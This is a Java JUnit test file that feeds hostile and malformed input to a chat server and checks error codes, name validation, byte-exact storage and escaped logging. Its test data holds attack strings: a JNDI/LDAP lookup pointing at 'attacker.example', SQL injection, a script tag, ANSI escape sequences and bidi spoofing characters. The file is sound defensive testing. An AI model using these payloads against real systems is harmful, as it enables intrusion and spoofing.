package dev.parley.chat.it;

import dev.parley.chat.testing.RawClient;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.spi.ILoggingEvent;
import dev.parley.chat.protocol.Escaping;
import dev.parley.chat.protocol.Frame;
import dev.parley.chat.server.DisconnectReason;
import dev.parley.chat.store.Conversations;
import dev.parley.chat.store.StoredMessage;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CyclicBarrier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * Hostile and malformed input over real sockets: each case checks the documented error code (or
 * disconnect reason) and what was kept: the connection, its registration, the store, other members.
 */
@Timeout(60)
class HostileInputTest {
    private TestServer server;

    @BeforeEach
    void start() {
        server = TestServer.start(b -> b
                .maxLineLength(1024)
                .maxTextLength(900)
                .maxDiscardedLine(64 * 1024)
                .rateLimit(10_000, 10_000));
    }

    @AfterEach
    void stop() {
        server.close();
    }

    /** Stored texts of a room, in seq order. */
    private List<String> storedTexts(String room) {
        return server.store.readAfter(Conversations.room(room), 0, 10_000).stream().map(StoredMessage::text).toList();
    }

    private static void assertAlive(RawClient c) {
        assertEquals("PONG", c.call("PING").verb(), "connection must survive");
    }

    @Test
    void aLineOverTheLimitIsRefusedAndTheConnectionKeepsItsState() {
        RawClient alice = server.user("alice");
        RawClient bob = server.user("bob");
        alice.join("lobby");
        bob.join("lobby");
        String ref = alice.ref();
        alice.send("SEND room=lobby ref=" + ref + " :" + "x".repeat(2000));
        Frame err = alice.next(f -> f.verb().equals("ERROR"), "ERROR for the long line");
        assertEquals("LINE_TOO_LONG", err.field("code"));
        // Still registered, still in the room: the next SEND is stored and delivered.
        Frame ack = alice.call("SEND room=lobby :after");
        assertEquals("ACK", ack.verb());
        assertEquals("1", ack.field("seq"), "the long line must not have used a seq");
        assertEquals("after", bob.next("MSG").text());
        assertEquals(List.of("after"), storedTexts("lobby"));
    }

    @Test
    void anEndlessLineIsCutAtTheHardCapWithBoundedReading() {
        RawClient alice = server.user("alice");
        RawClient bob = server.user("bob");
        alice.join("lobby");
        bob.join("lobby");
        byte[] chunk = "y".repeat(8192).getBytes(StandardCharsets.US_ASCII);
        alice.sendBytes("SEND room=lobby :".getBytes(StandardCharsets.US_ASCII));
        long sent = 0;
        // Send up to 16 MiB without LF; the server must close long before (hard cap 64 KiB here).
        while (sent < 16L << 20 && alice.trySendBytes(chunk)) {
            sent += chunk.length;
            if (alice.isClosed()) {
                break;
            }
        }
        alice.assertClosed();
        assertEquals(DisconnectReason.LINE_TOO_LONG, server.events.awaitDisconnectOf("alice").reason());
        List<Frame> got = alice.received();
        assertTrue(got.stream().anyMatch(f -> f.verb().equals("ERROR") && "LINE_TOO_LONG".equals(f.field("code"))),
                "LINE_TOO_LONG first: " + got);
        assertTrue(got.stream().anyMatch(f -> f.verb().equals("BYE") && "line-too-long".equals(f.field("reason"))),
                "BYE reason=line-too-long: " + got);
        // Memory bounded: the server stopped reading near the cap, not after everything we pushed.
        long in = server.server.stats().bytesIn();
        assertTrue(in < 64 * 1024 + 1024 * 1024, "server read " + in + " bytes of an endless line");
        // Nothing of it stored; bob sees exactly one LEFT and the room still works.
        Frame left = bob.next("LEFT");
        assertEquals("alice", left.field("name"));
        assertEquals(List.of(), storedTexts("lobby"));
        assertEquals("ACK", bob.call("SEND room=lobby :still here").verb());
    }

    @Test
    void invalidUtf8IsRefusedLineByLine() {
        RawClient alice = server.user("alice");
        alice.join("lobby");
        byte[][] bad = {
            {(byte) 0xC0, (byte) 0xAF},                       // overlong '/'
            {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},          // overlong, 3 bytes
            {(byte) 0xED, (byte) 0xA0, (byte) 0x80},          // UTF-16 surrogate D800
            {(byte) 0xED, (byte) 0xBF, (byte) 0xBF},          // surrogate DFFF
            {(byte) 0xE2, (byte) 0x82},                       // truncated 3-byte sequence
            {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},          // truncated 4-byte sequence
            {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, // above U+10FFFF
            {(byte) 0xFF},                                    // never valid
            {(byte) 0x80},                                    // lone continuation
        };
        for (byte[] b : bad) {
            ByteArrayOutputStream line = new ByteArrayOutputStream();
            line.writeBytes("SEND room=lobby :ok ".getBytes(StandardCharsets.US_ASCII));
            line.writeBytes(b);
            line.writeBytes(" end\n".getBytes(StandardCharsets.US_ASCII));
            alice.sendBytes(line.toByteArray());
            Frame err = alice.next("ERROR");
            assertEquals("INVALID_UTF8", err.field("code"), "for bytes " + java.util.HexFormat.of().formatHex(b));
        }
        // In a name too, before HELLO.
        RawClient eve = server.connect("eve");
        eve.sendBytes(new byte[] {'H', 'E', 'L', 'L', 'O', ' ', 'p', 'r', 'o', 't', 'o', '=', '1', ' ', 'n', 'a', 'm',
            'e', '=', (byte) 0xC0, (byte) 0x80, '\n'});
        assertEquals("INVALID_UTF8", eve.next("ERROR").field("code"));
        eve.hello("eve");
        assertAlive(alice);
        assertEquals(List.of(), storedTexts("lobby"), "nothing of the invalid lines stored");
    }

    @Test
    void namesRejectControlBidiAndSeparatorCharacters() {
        RawClient c = server.connect("c");
        String[] names = {
            "a\u001b[31m", "tab\tname", "bell\u0007", "del\u007f", "nel\u0085", "rlo\u202eevil", "lri\u2066x",
            "rlm\u200f", "alm\u061c", "ls\u2028x", "ps\u2029x", "zwsp\u200bx", "'or1=1--", "${jndi:ldap://x/a}",
            "a;DROP", "quote\"", "back\\slash", "-lead", ".lead", "_lead", "x".repeat(33), "emoji\ud83d\ude00",
        };
        for (String name : names) {
            Frame err = c.call("HELLO proto=1 name=" + name);
            assertEquals("ERROR", err.verb(), "HELLO " + Escaping.forLog(name, 80));
            assertEquals("INVALID_NAME", err.field("code"), "HELLO " + Escaping.forLog(name, 80));
        }
        // NUL and a lone CR never reach the name check: they break the frame itself.
        c.sendBytes("HELLO proto=1 name=nul\0x\n".getBytes(StandardCharsets.UTF_8));
        assertEquals("BAD_FRAME", c.next("ERROR").field("code"));
        c.sendBytes("HELLO proto=1 name=cr\rx\n".getBytes(StandardCharsets.UTF_8));
        assertEquals("BAD_FRAME", c.next("ERROR").field("code"));
        // After all that the connection may still register.
        c.hello("carol");
        assertEquals(0, server.events.disconnects().size());
    }

    @Test
    void textKeepsEveryCharacterButNulByteForByte() {
        textRoundTrip(server);
    }

    /** The same texts through the JDBC store on H2 and PostgreSQL: SQL metacharacters are data. */
    @Test
    void textSurvivesTheJdbcStoresByteForByte() throws Exception {
        org.h2.jdbcx.JdbcDataSource h2 = new org.h2.jdbcx.JdbcDataSource();
        h2.setURL("jdbc:h2:mem:hostile-" + java.util.UUID.randomUUID() + ";DB_CLOSE_DELAY=-1");
        try (dev.parley.chat.store.jdbc.JdbcMessageStore store =
                     dev.parley.chat.store.jdbc.JdbcMessageStore.builder(h2).build();
             TestServer s = TestServer.start(store, b -> b.rateLimit(10_000, 10_000))) {
            textRoundTrip(s);
        }
        String url = "jdbc:postgresql://127.0.0.1:5432/test";
        if (Databases.postgresReachable(url)) {
            String prefix = "hostile_" + Long.toHexString(System.nanoTime() & 0xffffffL) + "_";
            org.postgresql.ds.PGSimpleDataSource pg = new org.postgresql.ds.PGSimpleDataSource();
            pg.setURL(url);
            pg.setUser("postgres");
            try (dev.parley.chat.store.jdbc.JdbcMessageStore store =
                         dev.parley.chat.store.jdbc.JdbcMessageStore.builder(pg).tablePrefix(prefix).build();
                 TestServer s = TestServer.start(store, b -> b.rateLimit(10_000, 10_000))) {
                textRoundTrip(s);
            } finally {
                Databases.dropTables(url, prefix);
            }
        }
    }

    private static List<String> storedTexts(TestServer s, String room) {
        return s.store.readAfter(Conversations.room(room), 0, 10_000).stream().map(StoredMessage::text).toList();
    }

    private static void textRoundTrip(TestServer server) {
        RawClient alice = server.user("alice");
        RawClient bob = server.user("bob");
        alice.join("lobby");
        bob.join("lobby");
        List<String> texts = List.of(
                "tab\there",
                "ansi \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
                "bidi \u202egnp.exe\u202c \u2066iso\u2069 \u200f\u200e\u061c",
                "c1 \u0085 \u009b[31m and \u2028\u2029",
                "bell\u0007 bs\b del\u007f ff\f vt\u000b",
                "crlf \r\n lone cr \r lone lf \n end",
                "backslashes \\ \\\\ \\n \\r \\x C:\\temp\\new",
                "${jndi:ldap://attacker.example/a} ${env:HOME} %s %n %x {0}",
                "'; DROP TABLE parley_message; -- \" OR 1=1 /* */ `x` $$ \\' ",
                "<script>alert(1)</script> &amp; \\0 is not an escape",
                "astral \ud83d\ude00 \ud834\udd1e, combining e\u0301, fullwidth \uff53",
                " leading and trailing spaces ",
                ":colon first");
        List<String> acked = new ArrayList<>();
        for (String text : texts) {
            Frame ack = alice.call("SEND room=lobby :" + escape(text));
            assertEquals("ACK", ack.verb(), "SEND " + Escaping.forLog(text, 80) + " -> " + ack);
            acked.add(text);
            Frame msg = bob.next("MSG");
            assertEquals(text, msg.text(), "delivered byte for byte");
            assertEquals(ack.field("seq"), msg.field("seq"));
        }
        assertEquals(acked, storedTexts(server, "lobby"), "stored byte for byte");
        List<Frame> history = bob.callAll("HISTORY room=lobby limit=500");
        List<String> fromHistory = history.stream().filter(f -> f.verb().equals("MSG")).map(Frame::text).toList();
        assertEquals(acked, fromHistory, "returned by HISTORY byte for byte");
        // A raw NUL byte is refused as a broken frame, and nothing is stored for it.
        alice.sendBytes("SEND room=lobby :nul\0inside\n".getBytes(StandardCharsets.UTF_8));
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        assertEquals(acked.size(), storedTexts(server, "lobby").size());
        // A raw CR inside a line likewise.
        alice.sendBytes("SEND room=lobby :cr\rinside\n".getBytes(StandardCharsets.UTF_8));
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        assertEquals(acked.size(), storedTexts(server, "lobby").size());
        assertAlive(alice);
    }

    @Test
    void whatClientsTypedIsLoggedEscapedAndTextIsNeverLoggedAtInfo() {
        String marker = "SECRET-TEXT-7f3a";
        try (LogCapture logs = new LogCapture();
             TestServer rejecting = TestServer.start(b -> b.authenticator(r ->
                     dev.parley.chat.server.Authenticator.Result.reject("no")))) {
            RawClient alice = server.user("alice");
            alice.join("lobby");
            String hostile = marker + " \u001b[31m\r\n\u202e${jndi:ldap://x/a}'; DROP TABLE x; --";
            assertEquals("ACK", alice.call("SEND room=lobby :" + escape(hostile)).verb());
            RawClient bad = server.connect("bad");
            bad.call("HELLO proto=1 name=\u001b[2J\u202eevil");
            bad.call("JOIN room=\u001b[31m");
            bad.send("FROB\u001b x=\u202e");
            assertEquals("BAD_FRAME", bad.next("ERROR").field("code"));
            RawClient rejected = RawClient.connect(rejecting.port(), "rejected");
            rejected.send("HELLO proto=1 name=mallory token=\u001b[31m\u202e");
            assertEquals("AUTH_FAILED", rejected.next("ERROR").field("code"));
            alice.send("QUIT");
            alice.next("BYE");
            server.events.awaitDisconnectOf("alice");
            List<ILoggingEvent> events = logs.events();
            assertFalse(events.isEmpty(), "the server logged nothing at all");
            for (ILoggingEvent e : events) {
                String m = e.getFormattedMessage();
                for (int i = 0; i < m.length(); i++) {
                    char ch = m.charAt(i);
                    boolean control = ch < 0x20 && ch != '\t' && ch != '\n' || ch == 0x7f || (ch >= 0x80 && ch < 0xa0);
                    if (control || Escaping.isBidiOrSeparator(ch)) {
                        // Stack traces of exceptions may hold newlines, messages may not.
                        fail("raw character U+" + Integer.toHexString(ch) + " in log message: "
                                + Escaping.forLog(m, 300));
                    }
                }
                if (e.getLevel().isGreaterOrEqual(Level.INFO)) {
                    assertFalse(m.contains(marker), "message text logged at " + e.getLevel() + ": " + m);
                }
            }
        }
    }

    @Test
    void oneFrameSplitOverManyWritesAndManyFramesInOneWrite() {
        RawClient alice = server.user("alice");
        RawClient bob = server.user("bob");
        alice.join("lobby");
        bob.join("lobby");
        // One frame, one byte per write, with multi-byte characters cut in the middle.
        String text = "split \u00e9\u20ac\ud83d\ude00 over writes";
        byte[] line = ("SEND room=lobby ref=split :" + text + "\r\n").getBytes(StandardCharsets.UTF_8);
        for (byte b : line) {
            alice.sendBytes(new byte[] {b});
        }
        assertEquals("ACK", alice.reply("split").verb());
        assertEquals(text, bob.next("MSG").text());
        // 200 frames in one write: all answered, in order, seqs consecutive.
        StringBuilder batch = new StringBuilder();
        for (int i = 0; i < 200; i++) {
            batch.append("SEND room=lobby ref=b").append(i).append(" :m").append(i).append('\n');
        }
        alice.sendBytes(batch.toString().getBytes(StandardCharsets.UTF_8));
        long previous = 1;
        for (int i = 0; i < 200; i++) {
            Frame ack = alice.reply("b" + i);
            assertEquals("ACK", ack.verb());
            long seq = Long.parseLong(ack.field("seq"));
            assertEquals(previous + 1, seq);
            previous = seq;
            assertEquals("m" + i, bob.next("MSG").text());
        }
        assertEquals(201, storedTexts("lobby").size());
    }

    @Test
    void unknownVerbsMissingAndMalformedFields() {
        RawClient alice = server.user("alice");
        alice.join("lobby");
        Frame unknown = alice.expectError("FROBNICATE x=1", "UNKNOWN_COMMAND");
        assertNotNull(unknown.field("ref"), "the error echoes the ref");
        alice.send("frob x=1");
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        alice.send("SEND room=lobby room=other :dup");
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        alice.send("SEND roomlobby :no equals");
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        alice.send("SEND Room=lobby :capital key");
        assertEquals("BAD_FRAME", alice.next("ERROR").field("code"));
        alice.expectError("SEND :no target", "MISSING_FIELD");
        alice.expectError("SEND room=lobby", "MISSING_FIELD");
        alice.expectError("SEND room=lobby to=bob :both", "BAD_VALUE");
        alice.expectError("SEND room=lobby :", "BAD_VALUE");
        alice.expectError("SEND room=no/slash :x", "BAD_VALUE");
        alice.expectError("SEND room=" + "r".repeat(65) + " :x", "BAD_VALUE");
        alice.expectError("SEND room=lobby :" + "t".repeat(901), "TEXT_TOO_LONG");
        alice.expectError("SEND room=elsewhere :x", "NOT_IN_ROOM");
        alice.expectError("SEND to=nobody-here :x", "NO_SUCH_USER");
        alice.expectError("JOIN", "MISSING_FIELD");
        alice.expectError("JOIN room=", "BAD_VALUE");
        alice.expectError("JOIN room=a\u202eb", "BAD_VALUE");
        alice.expectError("PART room=never-joined", "NOT_IN_ROOM");
        alice.expectError("WHO room=no-such-room-xyz", "NO_SUCH_ROOM");
        alice.expectError("HELLO proto=1 name=alice2", "ALREADY_REGISTERED");
        alice.expectError("HISTORY", "MISSING_FIELD");
        RawClient v = server.connect("v");
        v.expectError("HELLO proto=1", "MISSING_FIELD");
        v.expectError("HELLO name=v", "MISSING_FIELD");
        v.send("HELLO proto=99 name=v");
        assertEquals("UNSUPPORTED_VERSION", v.next("ERROR").field("code"));
        assertEquals("unsupported-version", v.next("BYE").field("reason"));
        v.assertClosed();
        server.events.awaitDisconnects(1, d -> d.reason() == DisconnectReason.UNSUPPORTED_VERSION);
        assertAlive(alice);
        assertEquals(List.of(), storedTexts("lobby"), "nothing stored by refused requests");
    }

    @Test
    void negativeAndNonNumericNumbersAreBadValues() {
        RawClient alice = server.user("alice");
        alice.join("lobby");
        for (int i = 0; i < 3; i++) {
            alice.call("SEND room=lobby :m" + i);
        }
        for (String bad : List.of("limit=0", "limit=-1", "limit=abc", "limit=1e3", "limit=+5", "limit=0x10",
                "limit=-9223372036854775808", "before=abc", "before=-1", "after=-", "after=1 before=3", "limit=", "after=1234567890123456789",
                "limit=\u0661")) {
            alice.expectError("HISTORY room=lobby " + bad, "BAD_VALUE");
        }
        for (String bad : List.of("since=-1", "since=abc", "since=", "since=1.5", "since=9223372036854775807")) {
            alice.expectError("JOIN room=lobby " + bad, "BAD_VALUE");
        }
        // Large but well-formed limits are clamped to the maximum, never refused.
        for (String big : List.of("limit=501", "limit=2147483647", "limit=999999999999999999")) {
            List<Frame> page = alice.callAll("HISTORY room=lobby " + big);
            Frame end = page.get(page.size() - 1);
            assertEquals("END", end.verb(), big + " -> " + page);
            assertEquals("3", end.field("count"));
        }
        List<Frame> none = alice.callAll("HISTORY room=lobby after=999999999999999999");
        assertEquals("0", none.get(none.size() - 1).field("count"));
        Frame joined = alice.join("lobby since=999999999999999999");
        assertEquals("3", joined.field("head"));
        assertEquals(3, storedTexts("lobby").size());
        assertAlive(alice);
    }

    /**
     * PROTOCOL.md, "Limits": numbers have at most 18 digits, longer ones are BAD_VALUE "except limit,
     * which is clamped"; HISTORY: larger limits are "clamped ..., never refused".
     */
    @Test
    void aLimitOfNineteenDigitsAndMoreIsClampedNotRefused() {
        RawClient alice = server.user("alice");
        alice.join("lobby");
        alice.call("SEND room=lobby :m");
        for (String big : List.of("limit=9223372036854775807", "limit=99999999999999999999999")) {
            List<Frame> page = alice.callAll("HISTORY room=lobby " + big);
            assertEquals("END", page.get(page.size() - 1).verb(), big + " -> " + page);
        }
    }

    /** DECISIONS: "every reply/error caused by it echoes it", closing errors included. */
    @Test
    void closingErrorsEchoTheRequestRef() {
        RawClient v = server.connect("v");
        Frame unsupported = v.call("HELLO proto=99 name=v");
        assertEquals("UNSUPPORTED_VERSION", unsupported.field("code"));
        try (TestServer rejecting = TestServer.start(b -> b.authenticator(r ->
                dev.parley.chat.server.Authenticator.Result.reject("no")))) {
            RawClient r = RawClient.connect(rejecting.port(), "r");
            assertEquals("AUTH_FAILED", r.call("HELLO proto=1 name=mallory").field("code"));
        }
    }

    @Test
    void onlyHelloPingAndQuitBeforeWelcome() {
        RawClient c = server.connect("early");
        for (String line : List.of("JOIN room=lobby", "SEND room=lobby :x", "SEND to=bob :x", "HISTORY room=lobby",
                "WHO room=lobby", "ROOMS", "PART room=lobby")) {
            c.expectError(line, "NOT_REGISTERED");
        }
        c.expectError("FROBNICATE", "UNKNOWN_COMMAND");
        assertEquals("PONG", c.call("PING token=t1").verb());
        c.hello("late");
        c.join("lobby");
        assertEquals(List.of(), storedTexts("lobby"));
        assertEquals(0, server.events.disconnects().size());
    }

    @Test
    void duplicateNamesExactCaseAndCompatibilityVariants() {
        RawClient first = server.user("Souvik");
        RawClient c = server.connect("dup");
        for (String variant : List.of("Souvik", "souvik", "SOUVIK", "sOuViK", "\uff53\uff4f\uff55\uff56\uff49\uff4b",
                "\uff33\uff2f\uff35\uff36\uff29\uff2b")) {
            c.expectError("HELLO proto=1 name=" + variant, "NAME_TAKEN");
        }
        for (String reserved : List.of("server", "SYSTEM", "System")) {
            Frame f = c.call("HELLO proto=1 name=" + reserved);
            assertEquals("ERROR", f.verb(), reserved);
            assertTrue(Set.of("INVALID_NAME", "NAME_TAKEN").contains(f.field("code")), reserved + " -> " + f);
        }
        c.hello("souvik2"); // NAME_TAKEN does not close: another name works
        assertAlive(first);
        // When the holder leaves, the name is free again.
        first.send("QUIT");
        first.next("BYE");
        server.events.awaitDisconnects(1, d -> "Souvik".equals(d.connection().name()));
        server.user("SOUVIK");
    }

    @Test
    void twoClientsClaimingOneNameAtTheSameInstantExactlyOneWins() throws Exception {
        int rounds = 50;
        for (int round = 0; round < rounds; round++) {
            String[] variants = {"race" + round, round % 2 == 0 ? "race" + round : "RACE" + round};
            RawClient a = server.connect("a" + round);
            RawClient b = server.connect("b" + round);
            CyclicBarrier barrier = new CyclicBarrier(2);
            CompletableFuture<Frame> fa = CompletableFuture.supplyAsync(() -> claim(a, variants[0], barrier));
            CompletableFuture<Frame> fb = CompletableFuture.supplyAsync(() -> claim(b, variants[1], barrier));
            Frame ra = fa.get();
            Frame rb = fb.get();
            int welcomes = (ra.verb().equals("WELCOME") ? 1 : 0) + (rb.verb().equals("WELCOME") ? 1 : 0);
            assertEquals(1, welcomes, "round " + round + ": " + ra + " / " + rb);
            Frame loser = ra.verb().equals("WELCOME") ? rb : ra;
            assertEquals("NAME_TAKEN", loser.field("code"), "round " + round);
            a.close();
            b.close();
        }
    }

    private static Frame claim(RawClient c, String name, CyclicBarrier barrier) {
        String ref = c.ref();
        byte[] line = ("HELLO proto=1 name=" + name + " ref=" + ref + "\n").getBytes(StandardCharsets.UTF_8);
        try {
            barrier.await();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        c.sendBytes(line);
        return c.reply(ref);
    }

    /** The protocol's text escaping: backslash, LF and CR. */
    static String escape(String text) {
        return text.replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r");
    }
}
